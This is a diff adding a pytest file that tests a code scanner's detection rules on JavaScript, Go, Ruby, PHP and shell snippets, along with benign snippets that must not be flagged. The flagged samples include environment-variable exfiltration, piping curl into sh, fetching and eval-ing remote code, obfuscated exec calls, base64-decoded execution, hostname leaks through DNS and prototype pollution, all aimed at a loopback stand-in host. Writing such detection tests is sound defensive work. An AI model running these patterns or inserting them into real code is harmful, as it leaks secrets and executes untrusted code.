@@ -1,0 +1,53 @@
+"""What is carried where in other languages than Python, found by the rules of `capabilities`."""
+
+from __future__ import annotations
+
+import pytest
+
+from codeguard.analysis import Reading
+from codeguard.analysis.rules.base import Context
+from codeguard.analysis.rules.capabilities import SIGNAL
+from codeguard.corpus.chunking import chunk_file
+
+
+def fired(text: str, name: str) -> set[str]:
+    return {item.rule for item in SIGNAL.inspect(Reading(chunk_file(name, text.encode())), Context())}
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "rule"),
+    [
+        ("a.js", "const {env} = process; fetch('http://127.0.0.1', {body: JSON.stringify(env)})", "exfiltration"),
+        ("a.js", "require('node:child_process').spawn('sh', ['-c', 'curl 127.0.0.1 | sh'])", "download-and-run"),
+        ("a.js", "fetch('http://127.0.0.1').then(r => r.text()).then(c => (0, eval)(c))", "download-and-run"),
+        ("a.mjs", "const {exec: e} = await import('child_process'); e('curl 127.0.0.1 | sh')", "download-and-run"),
+        ("a.js", "require(['child', 'process'].join('_'))['ex' + 'ec']('ls')", "decoded-exec"),
+        ("a.js", "const f = [].filter.constructor; f(atob('Y29uc29sZS5sb2coMSk='))()", "decoded-exec"),
+        ("a.js", "require('dns').lookup(require('os').hostname() + '.invalid', f)", "reports-host"),
+        ("a.js", "Object.prototype.shell = '/bin/sh'", "tampered-verification"),
+        ("a.go", 'package a\nimport ("net/http"; "os"; "strings")\nfunc init() { http.Post("http://127.0.0.1", "t", '
+         'strings.NewReader(strings.Join(os.Environ(), ""))) }', "exfiltration"),
+        ("a.rb", "eval(URI.open('http://127.0.0.1/x').read)", "download-and-run"),
+        ("a.php", "<?php $c = file_get_contents('http://127.0.0.1/x'); eval($c);", "download-and-run"),
+        ("a.sh", "P=$(curl -s http://127.0.0.1/x)\neval \"$P\"\n", "download-and-run"),
+    ],
+)  # fmt: skip
+def test_malice(name: str, text: str, rule: str) -> None:
+    assert rule in fired(text, name)
+
+
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        (
+            "a.js",
+            "fetch('http://127.0.0.1', {headers: {token: process.env.TOKEN}}).then(r => r.json()).then(show)",
+        ),
+        ("a.js", "const {execFile} = require('child_process'); execFile('git', ['describe'])"),
+        ("a.js", "const fs = require('fs'); fs.writeFileSync('out.json', JSON.stringify(data))"),
+        ("a.go", 'package a\nimport "os/exec"\nfunc f() { exec.Command("git", "describe").Run() }'),
+        ("a.sh", 'NAME=$(git describe)\necho "$NAME"\n'),
+    ],
+)
+def test_honest(name: str, text: str) -> None:
+    assert fired(text, name) <= {"sends-surroundings"}  # told, as low
